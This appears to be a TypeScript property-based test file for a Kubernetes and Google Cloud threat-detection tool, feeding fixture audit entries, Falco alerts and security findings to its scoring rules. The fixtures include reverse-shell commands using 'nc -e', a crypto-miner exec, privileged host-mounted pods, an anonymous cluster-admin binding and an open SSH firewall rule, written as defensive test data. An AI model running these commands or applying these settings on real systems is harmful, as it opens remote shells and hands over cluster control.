import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { adminEntry } from '../../../local/scenarios/admin-entry.ts';
import { auditEntry } from '../../../local/scenarios/audit-entry.ts';
import { falcoAlert } from '../../../local/scenarios/falco-alert.ts';
import { cpuIncident } from '../../../local/scenarios/monitoring-incident.ts';
import { sccFinding } from '../../../local/scenarios/scc-finding.ts';
import { record } from '../../../shared/kubernetes/loose.ts';
import { queryOf } from '../../../shared/sources/log-match.ts';
import { readPayload, SOURCES } from '../../../shared/sources/registry.ts';
import { NOW } from '../../fixtures/signals.ts';
import { C1 } from '../../fixtures/threats.ts';
import { deployment, ownedByReplicaSet, pod, podSpec, UID } from '../../fixtures/workloads.ts';
import { mangledOf, score } from '../../kit/mangle.ts';

/** How many mangled payloads of each source are read; FIREBREAK_MANGLED asks for more. */
const RUNS = Number(process.env.FIREBREAK_MANGLED ?? 2000);

const PRIVILEGED = podSpec({ securityContext: { privileged: true } }, { volumes: [{ hostPath: { path: '/' } }] });
/** Sources that no rule fires on. */
const UNREAD = ['other-log'];
const GROUP = 'rbac.authorization.k8s.io';

/** Payloads that rules fire on, of every shape that each source reads. */
const PAYLOADS: Readonly<Record<string, readonly unknown[]>> = {
  'gke-audit-log': [
    auditEntry({
      verb: 'create',
      resource: 'pods',
      subresource: 'exec',
      namespace: 'shop',
      name: 'cart-0',
      command: 'nc -e sh h 1',
    }),
    auditEntry({
      verb: 'create',
      resource: 'pods',
      namespace: 'shop',
      request: pod(PRIVILEGED),
      response: pod(PRIVILEGED, { uid: UID }),
    }),
    auditEntry({
      verb: 'create',
      resource: 'pods',
      namespace: 'shop',
      principal: 'system:serviceaccount:kube-system:replicaset-controller',
      request: pod(PRIVILEGED, ownedByReplicaSet()),
    }),
    auditEntry({
      verb: 'patch',
      group: 'apps',
      resource: 'deployments',
      namespace: 'shop',
      name: 'cart',
      request: deployment(PRIVILEGED),
    }),
    auditEntry({
      verb: 'create',
      group: GROUP,
      resource: 'clusterrolebindings',
      name: 'ops',
      principal: 'system:anonymous',
      request: { roleRef: { name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'system:anonymous' }] },
      split: { uid: 'u', index: 0, totalSplits: 2 },
    }),
  ],
  'admin-audit-log': [
    adminEntry({
      service: 'cloudresourcemanager.googleapis.com',
      method: 'SetIamPolicy',
      bindingDeltas: [{ action: 'ADD', role: 'roles/owner', member: 'user:somebody@gmail.com' }],
      auditConfigDeltas: [{ action: 'REMOVE', service: 'allServices', logType: 'DATA_READ' }],
    }),
    adminEntry({
      service: 'container.googleapis.com',
      method: 'google.container.v1.ClusterManager.UpdateCluster',
      request: { update: { desiredBinaryAuthorization: {}, desiredAddonsConfig: { kubernetesDashboard: {} } } },
      operation: { id: 'o', first: true },
    }),
    adminEntry({
      service: 'compute.googleapis.com',
      method: 'v1.compute.instances.setMetadata',
      metadata: { instanceMetadataDelta: { addedMetadataKeys: ['ssh-keys'] } },
    }),
    adminEntry({
      service: 'compute.googleapis.com',
      method: 'v1.compute.firewalls.insert',
      request: { alloweds: [{ IPProtocol: 'tcp', ports: ['22'] }], sourceRanges: ['0.0.0.0/0'] },
    }),
  ],
  'kubernetes-audit': [
    {
      kind: 'Event',
      auditID: 'a',
      verb: 'get',
      requestURI: '/api/v1/namespaces/shop/pods/cart-0/exec?command=xmrig',
      objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'cart-0' },
      sourceIPs: ['203.0.113.7'],
    },
  ],
  'monitoring-incident': [
    cpuIncident({
      id: '0.mtdi83m6w8ao',
      cluster: C1,
      on: { kind: 'pod', namespace: 'shop', pod: 'cart-0', container: 'cart' },
      startedAt: NOW - 60_000,
    }),
  ],
  'security-command-center': [
    sccFinding({ category: 'Reverse Shell', pods: [{ ns: 'shop', name: 'cart-0' }], processes: [['sh', '-c', 'id']] }),
    sccFinding({
      category: 'Brute Force: SSH',
      version: 2,
      objects: [{ kind: 'Deployment', ns: 'shop', name: 'cart' }],
      nodes: ['gke-c1-pool-0'],
      principal: 'ana@example.com',
      callerIp: '203.0.113.7',
      domains: ['pool.example.com'],
    }),
  ],
  falco: [
    falcoAlert({ rule: 'Terminal shell in container', podUid: UID, command: 'nc -e /bin/sh 203.0.113.9 4444' }),
    falcoAlert({ rule: 'My own rule', pod: null }),
  ],
};

/** What something gives, undefined where it refuses: `score` has looked at how. */
const attempt = <T>(what: () => T): T | undefined => {
  try {
    return what();
  } catch {
    return undefined;
  }
};

describe('hostile payloads', () => {
  for (const [source, payloads] of Object.entries(PAYLOADS)) {
    it(`of ${source} fire rules as long as nobody touches them`, () => {
      for (const payload of payloads) {
        assert.equal(readPayload(payload, { now: NOW }).source, source);
        assert.ok(score(payload) > 0);
      }
    });

    it(`of ${source} give findings by the schema or a sentence, mangled as they may be`, function () {
      this.timeout(RUNS * 20);
      fc.assert(
        fc.property(mangledOf(payloads), (payload) => void score(payload)),
        { numRuns: RUNS },
      );
    });
  }

  it('of log-match incidents give a query or a sentence, mangled as they may be', () => {
    const sent = cpuIncident({ id: '0.a', cluster: C1, on: { kind: 'node', node: 'n' }, startedAt: NOW });
    const condition = { conditionMatchedLog: { filter: 'a="b" AND (c OR d)' } };
    const payload = { ...sent, incident: { ...record(sent.incident), condition } };
    fc.assert(
      fc.property(mangledOf([payload]), (mangled) => {
        score(mangled);
        const signal = attempt(() => readPayload(mangled, { now: NOW }).signal);
        if (signal?.kind === 'log-match') assert.ok(queryOf(signal).filter.endsWith('\n)'));
      }),
      { numRuns: RUNS },
    );
  });

  it('are made of every source that rules read', () => {
    const read = SOURCES.map(({ id }) => id).filter((id) => !UNREAD.includes(id));
    assert.deepEqual(Object.keys(PAYLOADS).sort(), read.sort());
  });

  it('give findings or a sentence where they are any JSON at all', () => {
    fc.assert(fc.property(fc.json(), (json) => void score(JSON.parse(json))));
  });
});
